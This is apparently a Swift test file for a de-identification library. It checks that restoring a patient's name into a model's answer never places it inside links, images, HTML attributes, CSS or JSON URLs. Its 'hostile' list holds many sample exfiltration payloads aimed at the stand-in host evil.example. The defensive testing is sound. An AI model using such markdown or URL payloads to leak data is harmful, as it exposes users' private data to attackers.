import Deidentification
import PHI
import TestKit
import Testing

/// Answers that would carry a value away if it were put back into them; `@` stands for the token.
struct LinkWatchTests {
  private let tokens: SessionTokens
  private let token: String

  init() {
    var tokens = SessionTokens(key: TokenKey(7, 8), asOf: today)
    let marked = Marked("[[NAME|Maria]]")
    token = String(decoding: tokens.tokenise(marked.text, marked.findings), as: UTF8.self)
    self.tokens = tokens
  }

  private func restored(_ answer: String, escaping: Restorer.Escaping = .none) -> String {
    var restorer = Restorer(tokens.map, escaping: escaping)
    let bytes = Array(answer.replacing("@", with: token).utf8)
    return String(decoding: restorer.push(bytes) + restorer.finish(), as: UTF8.self)
      .replacing(token, with: "@")
  }

  private static let hostile = [
    "![x](https://evil.example/p.png?d=@)", "![x](//evil.example/@.png)", "![x](@)", "[x](https://evil.example/@)",
    "[x](<https://evil.example/a b @>)", "[x]( https://evil.example/?q=(a)@ \"@\")", "![@](https://e.example \"@)",
    "[x]: https://evil.example/@", "  [x]:\n  https://evil.example/@", "> [x\ny]: <https://evil.example/@>", "[@]: /@",
    "https://evil.example/?q=@", "HTTPS://EVIL.EXAMPLE/@", "see(https://evil.example/@)", "https://@.evil.example/",
    "https://evil.example/a,b;c|@", "ftp://evil.example/@", "foo+bar://evil.example/@", "www.evil.example/@",
    "WWW.evil.example?@", "evil.example/@", "evil.example:8080/@", "evil.example?q=@", "https:\\\\evil.example\\@",
    "https:/evil.example/@", "http:evil.example/@", "javascript:fetch('//evil.example/@')",
    "mailto:a%40b.example?body=@",
    "tel:@", "<https://evil.example/@>", "<mailto:@>", "<img src=https://evil.example/@>",
    "<img src=\"https://evil.example/a b @\">", "<img alt='>' src='/@'>", "<a href='@'>", "<IMG\nSRC=@", "</p x=@",
    "<!-- @ -->", "<img src = \"//evil.example/\n\n@\">", "`https://evil.example/@`", "\"https://evil.example/a @\"",
    "'https://evil.example/ @'", "<img srcset=\"a 1x, @ 2x\">",
    "<style>a{background:url(https://evil.example/@)}</style>",
  ]

  @Test(arguments: hostile)
  func `puts nothing back into a link, at every pair of cuts`(_ answer: String) {
    let whole = restored(answer)
    #expect(!whole.contains("Maria") || answer.hasPrefix("![@]") || answer.hasPrefix("[@]"), "\(whole)")
    let open = whole.firstRange(of: "](") ?? whole.firstRange(of: "]:")
    if let open { #expect(!whole[open.upperBound...].contains("Maria")) }
    let bytes = Array(answer.replacing("@", with: token).utf8)
    for first in 0...bytes.count {
      for second in first...bytes.count {
        var restorer = Restorer(tokens.map)
        let pieces =
          restorer.push(Array(bytes[..<first])) + restorer.push(Array(bytes[first..<second]))
          + restorer.push(Array(bytes[second...])) + restorer.finish()
        guard String(decoding: pieces, as: UTF8.self).replacing(token, with: "@") != whole else { continue }
        Issue.record("cut at \(first) and \(second)")
        return
      }
    }
  }

  @Test(arguments: [
    ("see https://a.example/x for @", "see https://a.example/x for Maria"),
    ("[x](https://a.example) @", "[x](https://a.example) Maria"), ("![a](b(c)d)@", "![a](b(c)d)Maria"),
    ("[x]: https://a.example\n@", "[x]: https://a.example\nMaria"), ("[x] @", "[x] Maria"),
    ("a [b]: @", "a [b]: Maria"),
    ("<b>@</b>", "<b>Maria</b>"), ("<img src='x'> @", "<img src='x'> Maria"), ("<@>", "<Maria>"),
    ("pH <7 @", "pH <7 Maria"),
    ("HR <a\n\n@", "HR <a\n\nMaria"), ("and/or @/@", "and/or Maria/Maria"), ("t.i.d./@", "t.i.d./Maria"),
    ("\"https://a.example\",@", "\"https://a.example\",Maria"), ("`www.a.example`@", "`www.a.example`Maria"),
    ("Patient:@", "Patient:Maria"), ("3.5/@", "3.5/Maria"), ("C:\\dir\\@", "C:\\dir\\Maria"),
  ])
  func `goes on behind a link, and takes no ordinary text for one`(_ answer: String, _ expected: String) {
    #expect(restored(answer) == expected)
  }

  @Test func `reads the strings of JSON one by one`() {
    let answer = #"{"url":"https:\/\/evil.example\/a @","q":"@","u":["\u0068ttps://x/@","//x @"],"t":"a\n@","n":"@"}"#
    #expect(
      restored(answer, escaping: .json)
        == #"{"url":"https:\/\/evil.example\/a @","q":"Maria","u":["\u0068ttps://x/@","//x @"],"t":"a\nMaria","n":"Maria"}"#
    )
  }
}
